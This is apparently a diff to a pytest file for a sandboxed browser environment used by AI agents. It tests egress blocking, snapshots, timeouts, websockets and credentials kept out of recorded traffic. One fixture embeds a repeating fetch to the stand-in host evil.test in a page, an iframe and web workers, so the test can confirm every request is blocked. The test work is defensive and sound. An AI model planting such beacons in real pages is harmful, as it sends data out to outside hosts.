@@ -5,8 +5,10 @@ from __future__ import annotations
 import asyncio
 import hashlib
 from collections.abc import AsyncIterator, Callable, Iterator
+from pathlib import Path
 from urllib.parse import quote
 
+import msgspec
 import pytest
 import pytest_asyncio
 
@@ -14,9 +16,10 @@ from exact.config import BrowserConfig
 from exact.environments.base import Effect, Transition
 from exact.environments.browser import PageSetup
 from exact.environments.browser.branch import ForkingEnvironment
-from exact.environments.browser.egress import Outside
 from exact.environments.browser.forking import ForkingWorlds, forking
+from exact.environments.browser.tape import Tape
 from exact.environments.sandbox import find_runsc
+from exact.environments.sites import Account, Outside
 from exact.errors import EnvironmentError_
 from exact.observation import Observation
 from exact.task import Task
@@ -149,14 +152,30 @@ async def test_no_way_leads_to_a_forbidden_host_and_the_attempt_is_recorded(worl
     assert "GET /text" not in fresh.asked
 
 
-async def test_a_restored_branch_is_judged_from_its_first_request_on(world: ForkingEnvironment, worlds: ForkingWorlds, fresh: Site) -> None:
-    fresh.pages["/"] = f"<p>Here<script>setInterval(() => fetch('{AWAY}').catch(() => 0), 200)</script>"
-    await world.reset(TASK)
-    for _ in range(2):
-        await world.restore(await world.snapshot())
+ASKING = "setInterval(() => fetch('http://evil.test/text?of=%s', {method: 'PUT'}).catch(() => 0), 100)"
+LIVELY = f"""<p>Here<iframe srcdoc="<script>{ASKING % "frame"}</script>"></iframe><script>{ASKING % "page"}
+    window.one = new Worker('/script?run=' + encodeURIComponent(`{ASKING % "worker"}`))
+    window.two = new Worker(window.URL.createObjectURL(new Blob([`{ASKING % "blob"}`])))</script>"""
+
+
+async def test_what_runs_in_a_restored_branch_is_judged_before_it_reaches_anything(worlds: ForkingWorlds, fresh: Site) -> None:
+    fresh.pages["/"] = LIVELY
+    async with worlds.open(speculative=True) as world:
+        await world.reset(TASK)
         await until(lambda: not world.obstacle)
-        assert ("GET", AWAY) in blocked((await do(world, "wait")).effects)
-    assert "GET /text" not in fresh.asked
+        await world.restore(await world.snapshot())
+        found: set[str] = set()
+        async with asyncio.timeout(20):
+            while len(found) < 4:
+                found |= {url.partition("of=")[2] for _, url in blocked((await do(world, "wait")).effects)}
+    assert found == {"frame", "page", "worker", "blob"} and "PUT /text" not in fresh.asked
+
+
+async def test_no_snapshot_is_taken_while_a_worker_runs_that_could_not_be_judged_again(world: ForkingEnvironment, fresh: Site) -> None:
+    fresh.pages["/"] = "<script>window.one = new SharedWorker('/script?run=1')</script>"
+    await world.reset(TASK)
+    with pytest.raises(EnvironmentError_, match="no snapshot now: a shared worker runs"):
+        await world.snapshot()
 
 
 async def test_a_service_worker_does_not_come_between(world: ForkingEnvironment, fresh: Site) -> None:
@@ -191,13 +210,13 @@ async def test_an_upload_of_megabytes_arrives_whole(world: ForkingEnvironment, f
         "/"
     ] = """<form method=post action=/size enctype=multipart/form-data><input type=file name=f aria-label=f><button>Go</button></form>
         <script>const files = new DataTransfer();
-        files.items.add(new File([new Uint8Array(3000000).map((_, i) => i % 251)], 'large.bin'));
+        files.items.add(new File([new Uint8Array(1000000).map((_, i) => i % 251)], 'large.bin'));
         document.querySelector('input').files = files.files</script>"""
     await world.reset(TASK)
     assert [effect.status for effect in (await click(world, "Go")).effects] == [200]
-    body = bytes(index % 251 for index in range(3000000))
+    body = bytes(index % 251 for index in range(1000000))
     assert body in fresh.received and b'filename="large.bin"' in fresh.received
-    assert hashlib.sha256(fresh.received).hexdigest() in world.observation.text
+    await shown(world, hashlib.sha256(fresh.received).hexdigest())
 
 
 async def test_a_download_is_an_effect_and_leaves_the_page(world: ForkingEnvironment, fresh: Site) -> None:
@@ -210,7 +229,7 @@ async def test_a_download_is_an_effect_and_leaves_the_page(world: ForkingEnviron
 
 async def test_a_response_of_megabytes_arrives_whole_while_others_go_on(world: ForkingEnvironment, fresh: Site) -> None:
     fresh.pages["/"] = """<button onclick="fetch('/large?bytes=8388608').then(r => r.arrayBuffer())
-        .then(b => crypto.subtle ? b : b).then(b => this.textContent = 'got ' + b.byteLength + ' ' + new Uint8Array(b)[8388607])">Go</button>"""
+        .then(b => this.textContent = 'got ' + b.byteLength + ' ' + new Uint8Array(b)[8388607])">Go</button>"""
     await world.reset(TASK)
     await click(world, "Go")
     await shown(world, "got 8388608 255")
@@ -235,7 +254,8 @@ async def test_a_stream_is_seen_as_it_comes_and_a_snapshot_before_its_end_counts
 
 
 SOCKET = """<p>-</p><script>const connect = () => { const socket = new WebSocket(location.origin.replace('http', 'ws') + '/socket');
-    socket.onmessage = e => document.querySelector('p').textContent += e.data; socket.onclose = () => setTimeout(connect, 50); }; connect()</script>"""
+    socket.onmessage = e => document.querySelector('p').textContent += e.data;
+    socket.onclose = () => setTimeout(connect, 50); }; connect()</script>"""
 
 
 async def test_a_websocket_is_closed_at_a_restore_and_the_application_connects_again(
@@ -261,13 +281,91 @@ async def test_a_websocket_is_refused_while_exploring(worlds: ForkingWorlds, fre
     assert fresh.sockets == 0
 
 
+@pytest_asyncio.fixture(loop_scope="session")
+async def impatient(worlds: ForkingWorlds, fresh: Site, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[ForkingEnvironment]:
+    """As `world`, but a server has 3 s to answer."""
+    monkeypatch.setattr(worlds, "config", msgspec.structs.replace(CONFIG, answer_seconds=3.0))
+    async with worlds.open(speculative=False) as environment:
+        yield environment
+
+
 @pytest.mark.parametrize("how", ["click", "goto"])
-async def test_while_a_server_never_answers_the_page_before_is_seen_and_acted_in(world: ForkingEnvironment, fresh: Site, how: str) -> None:
+async def test_a_navigation_that_is_never_answered_is_stopped_and_the_page_before_stays(
+    impatient: ForkingEnvironment, fresh: Site, how: str
+) -> None:
     fresh.pages["/"] = "<a href=/never>Go</a><button onclick='this.textContent = 42'>Other</button>"
-    await world.reset(TASK)
-    step = await (click(world, "Go") if how == "click" else do(world, 'goto "/never"'))
-    assert step.info and find(step.observation, "Other")
-    async with asyncio.timeout(10):
-        assert find((await do(world, "wait")).observation, "Other")
-        assert world.obstacle == "a page is loading"
-        assert find((await click(world, "Other")).observation, "42")
+    await impatient.reset(TASK)
+    step = await (click(impatient, "Go") if how == "click" else do(impatient, 'goto "/never"'))
+    assert step.info == {"unsettled": "http://shop.test/never did not answer for 3 s: its loading was stopped"}
+    assert impatient.obstacle == "" and find((await click(impatient, "Other")).observation, "42")
+
+
+async def test_a_wait_comes_back_though_the_page_goes_where_nobody_answers(impatient: ForkingEnvironment, fresh: Site) -> None:
+    fresh.pages["/"] = "<p>Here<script>setTimeout(() => location = '/never', 700)</script>"
+    await impatient.reset(TASK)
+    for _ in range(2):
+        assert find((await do(impatient, "wait")).observation, "Here")
+    assert "GET /never" in fresh.asked
+
+
+async def test_a_popup_that_is_never_answered_leaves_its_opener(impatient: ForkingEnvironment, fresh: Site) -> None:
+    fresh.pages["/"] = "<button onclick=\"window.open('/never')\">Go</button>"
+    await impatient.reset(TASK)
+    assert find((await click(impatient, "Go")).observation, "Go")
+    assert find((await do(impatient, "wait")).observation, "Go")
+
+
+async def test_a_start_that_is_never_answered_is_an_error_with_the_way_out(impatient: ForkingEnvironment) -> None:
+    with pytest.raises(EnvironmentError_, match=r"never did not answer for 3 s: raise browser.answer_seconds"):
+        await impatient.reset(msgspec.structs.replace(TASK, start="http://shop.test/never"))
+
+
+LOGIN = """<p>-</p><input aria-label=user><input type=password aria-label=pass><button onclick="const [user, pass] =
+    [...document.querySelectorAll('input')].map(each => each.value); fetch('/size?user=' + user, {method: 'POST', body: 'password=' + pass});
+    document.querySelector('p').textContent = 'Hello ' + user + ' ' + pass">Log in</button>"""
+
+
+async def test_each_branch_has_a_log_in_of_its_own_whose_secrets_are_not_read(fresh: Site, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SHOP_PASSWORD", "hunter2")
+    fields = {"user": "ann", "password": "$SHOP_PASSWORD"}
+    accounts = tuple(Account(name=name, fields=fields | {"user": name}) for name in ("anna", "bob"))
+    outside = Outside(hosts={"shop.test": f"127.0.0.1:{fresh.port}"}, accounts=accounts)
+    fresh.pages["/"] = LOGIN
+    async with forking(CONFIG, PageSetup(), outside=outside) as worlds, worlds.open(speculative=False) as first:
+        seen = await first.reset(TASK)
+        await do(first, f'fill [{find(seen, "user").id}] "<user>"')
+        await do(first, f'fill [{find(seen, "pass").id}] "<password>"')
+        step = await click(first, "Log in")
+        assert fresh.received == b"password=hunter2" and find(step.observation, "Hello <user> <password>")
+        assert [effect.url for effect in step.effects] == ["http://shop.test/size?user=<user>"]
+        assert b"hunter2" not in msgspec.json.encode(step) and b"anna" not in msgspec.json.encode(step)
+        async with worlds.open(speculative=False):
+            third = asyncio.ensure_future(anext(aiter(_opened(worlds))))
+            with pytest.raises(EnvironmentError_, match="another branch uses the log-in anna"):
+                async with worlds.fork(await first.snapshot(), speculative=False):
+                    pass
+            assert not third.done()
+        await third
+
+
+async def _opened(worlds: ForkingWorlds) -> AsyncIterator[None]:
+    async with worlds.open(speculative=False):
+        yield
+
+
+async def test_recorded_traffic_answers_where_the_site_is_gone_and_has_no_credentials(fresh: Site, tmp_path: Path) -> None:
+    fresh.pages["/"] = LOGIN + "<a href='/hop?cookie=sid&to=/who'>Go</a>"
+    for mode in ("record", "replay"):
+        tape = Tape(tmp_path / "traffic.jsonl", "record" if mode == "record" else "replay")
+        place = f"127.0.0.1:{fresh.port}" if mode == "record" else "127.0.0.1:9"
+        async with (
+            forking(CONFIG, PageSetup(), outside=Outside(hosts={"shop.test": place}), tape=tape) as worlds,
+            worlds.open(speculative=False) as world,
+        ):
+            seen = await world.reset(TASK)
+            await do(world, f'fill [{find(seen, "pass").id}] "hunter2"')
+            assert [effect.status for effect in (await click(world, "Log in")).effects] == [200]
+            assert "Cookies" in (await do(world, f"click [{find(seen, 'Go').id}]")).observation.text  # type: ignore[union-attr]
+            if mode == "replay":
+                assert [effect.detail for effect in (await do(world, 'goto "/text"')).effects] == ["not in the recorded traffic"]
+    assert "hunter2" not in (tmp_path / "traffic.jsonl").read_text() and "sid=yes" not in (tmp_path / "traffic.jsonl").read_text()
